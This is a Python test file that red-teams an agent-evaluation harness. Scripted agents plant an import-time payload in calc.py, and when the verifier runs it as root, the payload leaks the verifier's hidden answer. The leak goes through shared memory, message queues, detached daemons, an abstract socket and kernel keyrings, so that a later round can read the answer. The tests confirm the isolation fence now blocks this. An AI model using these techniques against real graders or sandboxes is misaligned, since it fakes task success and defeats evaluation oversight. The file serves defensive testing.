"""Red team: a soft verify between trial rounds leaves nothing in the kernel for round 2 (issue 32).

The trial is test_soft_verify_fence's (a task whose answer only its verifier holds, whose
verifier imports the agent's ``calc``). Round 1's "agent" (the oracle running solve.sh) plants
an import-time payload in ``calc.py``; the soft verify after round 1 imports it as root, with
the hidden answer at hand. The payload puts the
answer where the fence's file restore and process kill do not look: a System V shared-memory
segment, a POSIX message queue (both mode 0666, in the sandbox's IPC namespace), a detached
daemon (new session) that keeps offering it in ``/tmp`` and another that serves it on an abstract
unix socket (no file: the network namespace's). Round 2's agent attaches to the segment,
opens the queue, reads ``/tmp`` and connects to the socket: before the verify ran in namespaces of its own
(`reroll_sidecar.verify_ns`) it read the answer from the segment and the final reward was 1.0;
now it finds nothing and the reward is 0.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.security.test_soft_verify_fence import make_trial, run_trial

pytestmark = pytest.mark.slow

PAYLOAD = r"""
import ctypes, os, subprocess
_verifier = os.environ.get("REROLL_VERIFIER_DIR", "/verifier")
if os.path.isdir(_verifier) and os.geteuid() == 0:
    _secret = open(os.path.join(_verifier, "secret.txt")).read().strip().encode()
    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.shmat.restype = ctypes.c_void_p
    os.umask(0)
    _id = _libc.shmget(0x52524F4C, 4096, 0o1666)
    ctypes.memmove(_libc.shmat(_id, None, 0), _secret, len(_secret))
    _libc.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p]
    _queue = _libc.mq_open(b"/reroll-leak", os.O_CREAT | os.O_RDWR, 0o666, None)
    _sent = _libc.mq_send(_queue, _secret, len(_secret), 0)
    print(f"PAYLOAD RAN: shm {_id}, mqueue {_queue}/{_sent}", flush=True)
    _daemon = f"sleep 2; while true; do echo {_secret.decode()} > /tmp/late-secret; sleep 0.2; done"
    subprocess.Popen(["setsid", "sh", "-c", f"sh -c '{_daemon}' >/dev/null 2>&1 &"])
    _serve = (  # a detached server on an abstract unix socket (the network namespace's, no file)
        "import socket, sys\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0reroll-leak')\ns.listen()\n"
        "while True:\n    c = s.accept()[0]\n    c.sendall(sys.argv[1].encode())\n    c.close()\n"
    )
    _quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "start_new_session": True}
    subprocess.Popen(["python3", "-c", _serve, _secret.decode()], **_quiet)


def mean(values):
    return sum(values) / len(values)
"""

READER = r"""
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
found = []
shm = libc.shmget(0x52524F4C, 0, 0)
if shm >= 0:
    address = libc.shmat(shm, None, 0o10000)
    if address not in (None, ctypes.c_void_p(-1).value):
        found.append(("shm", ctypes.string_at(address, 60).split(b"\0")[0].decode()))
libc.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int]
queue = libc.mq_open(b"/reroll-leak", os.O_RDONLY | os.O_NONBLOCK)
if queue >= 0:
    buffer = ctypes.create_string_buffer(1 << 16)
    size = libc.mq_receive(queue, buffer, 1 << 16, None)
    if size > 0:
        found.append(("mqueue", buffer.raw[:size].decode()))
try:
    found.append(("tmp", open("/tmp/late-secret").read().strip()))
except OSError:
    pass
try:
    client = socket.socket(socket.AF_UNIX)
    client.connect("\0reroll-leak")
    found.append(("an abstract socket", client.recv(200).decode()))
except OSError:
    pass
for where, secret in found:
    print(f"FOUND in {where}: {secret}")
    open("answer.txt", "w").write(secret)
if not found:
    print("FOUND NOTHING")
"""

SOLVE = """#!/bin/sh
cd "${REROLL_WORKSPACE:-/app}"
if [ ! -f .round1-done ]; then
  cat > calc.py <<'PAYLOAD_END'
@PAYLOAD@
PAYLOAD_END
  touch .round1-done
  exit 0
fi
sleep 4  # the daemon, were it alive, has written the secret by now
python3 - <<'READER_END'
@READER@
READER_END
exit 0
""".replace("@PAYLOAD@", PAYLOAD.strip()).replace("@READER@", READER.strip())


def test_round_two_finds_no_ipc_object_or_daemon_of_the_soft_verify(
    sandbox_backend: str, tmp_path: Path
) -> None:
    run, result = run_trial(make_trial(tmp_path, SOLVE), sandbox_backend, tmp_path)
    soft = run / "verifier" / "rounds" / "0"
    assert "PAYLOAD RAN: shm" in (soft / "test-stdout.txt").read_text(), "the attack did not run"
    agent_output = "".join(p.read_text(errors="replace") for p in (run / "agent").rglob("*") if p.is_file())
    assert "FOUND NOTHING" in agent_output and "FOUND in" not in agent_output, agent_output[-3000:]
    assert result["status"] == "ok", result.get("error")
    assert result["rewards"] == {"reward": 0.0}


KEYS = r"""
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_long = ctypes.c_long
SESSION, USER, OPEN = -3, -4, 0x3F3F3F3F  # @s, @u; every right to everyone


def add(kind, description, data, ring):
    payload, size = (ctypes.c_char_p(data) if data else None), _long(len(data or b""))
    return _libc.syscall(_long(248), kind, description.encode(), payload, size, _long(ring))


def keyctl(*args):
    return _libc.syscall(_long(250), *(_long(a) if isinstance(a, int) else a for a in args))


def find(description, kind="user"):
    # The keys this process may list (/proc/keys) and those its keyrings hold, nested ones included.
    found = set()
    try:
        for line in open("/proc/keys"):
            fields = line.split()
            if fields[7] == kind and fields[8].rstrip(":") == description:
                found.add(int(fields[0], 16))
    except (OSError, IndexError):
        pass
    for ring in (SESSION, USER):
        key = keyctl(10, ring, kind.encode(), description.encode(), 0)  # KEYCTL_SEARCH
        if key > 0:
            found.add(key)
    return sorted(found)


def read(key):
    buffer = ctypes.create_string_buffer(4096)
    size = keyctl(11, key, buffer, 4096)  # KEYCTL_READ
    return buffer.raw[:size].decode() if size >= 0 else None


keyctl(8, USER, SESSION)  # KEYCTL_LINK: the user keyring possessed, through the session's
"""

KEY_PAYLOAD = (
    KEYS
    + r"""
_verifier = os.environ.get("REROLL_VERIFIER_DIR", "/verifier")
if os.path.isdir(_verifier) and os.geteuid() == 0:
    _known = dict(line.split() for line in open("keys.txt"))  # the ids the agent left
    _seen = [read(key) for key in [*find("reroll-agent-key"), int(_known["agent-key"])]]
    print(f"VERIFY SAW AGENT KEYS: {[s for s in _seen if s]}", flush=True)
    _secret = open(os.path.join(_verifier, "secret.txt")).read().strip().encode()
    _made = [add(b"user", "reroll-leak", _secret, ring) for ring in (SESSION, USER)]
    _linked = []
    for _key in _made:
        keyctl(5, _key, OPEN)  # KEYCTL_SETPERM
        _linked.append(keyctl(8, _key, int(_known["dropbox"])))  # into the agent's open keyring
    print(f"PAYLOAD RAN: keys {_made}, linked {_linked}", flush=True)


def mean(values):
    return sum(values) / len(values)
"""
)

KEY_AGENT = (
    KEYS
    + r"""
key = add(b"user", "reroll-agent-key", b"from-the-agent", USER)
box = add(b"keyring", "reroll-dropbox", None, USER)
print("AGENT KEYS", key, box, keyctl(5, key, OPEN), keyctl(5, box, OPEN))
open("keys.txt", "w").write(f"agent-key {key}\ndropbox {box}\n")
"""
)

KEY_READER = (
    KEYS
    + r"""
found = [secret for secret in map(read, find("reroll-leak")) if secret]
for secret in found:
    print(f"FOUND in a keyring: {secret}")
    open("answer.txt", "w").write(secret)
if not found:
    print("FOUND NOTHING")
"""
)

KEY_SOLVE = """#!/bin/sh
cd "${REROLL_WORKSPACE:-/app}"
if [ ! -f .round1-done ]; then
  python3 - <<'AGENT_END'
@AGENT@
AGENT_END
  cat > calc.py <<'PAYLOAD_END'
@PAYLOAD@
PAYLOAD_END
  touch .round1-done
  exit 0
fi
python3 - <<'READER_END'
@READER@
READER_END
exit 0
"""
KEY_SOLVE = KEY_SOLVE.replace("@AGENT@", KEY_AGENT.strip()).replace("@PAYLOAD@", KEY_PAYLOAD.strip())
KEY_SOLVE = KEY_SOLVE.replace("@READER@", KEY_READER.strip())


def test_keys_cross_a_soft_verify_in_neither_direction(sandbox_backend: str, tmp_path: Path) -> None:
    """Round 1's agent leaves keys (its session and user keyrings, and an open keyring as a drop
    box); the soft verify's payload looks for them and stores the answer in its own keyrings and
    the drop box; round 2's agent looks for it. Before the verify's keyrings were its own, the
    verify read the agent's keys and round 2 read the answer from the drop box (reward 1.0)."""
    run, result = run_trial(make_trial(tmp_path, KEY_SOLVE), sandbox_backend, tmp_path)
    soft = (run / "verifier" / "rounds" / "0" / "test-stdout.txt").read_text()
    assert "PAYLOAD RAN: keys" in soft, "the attack did not run"
    assert "VERIFY SAW AGENT KEYS: []" in soft, soft[-3000:]
    agent_output = "".join(p.read_text(errors="replace") for p in (run / "agent").rglob("*") if p.is_file())
    assert "FOUND NOTHING" in agent_output and "FOUND in" not in agent_output, agent_output[-3000:]
    assert result["status"] == "ok", result.get("error")
    assert result["rewards"] == {"reward": 0.0}
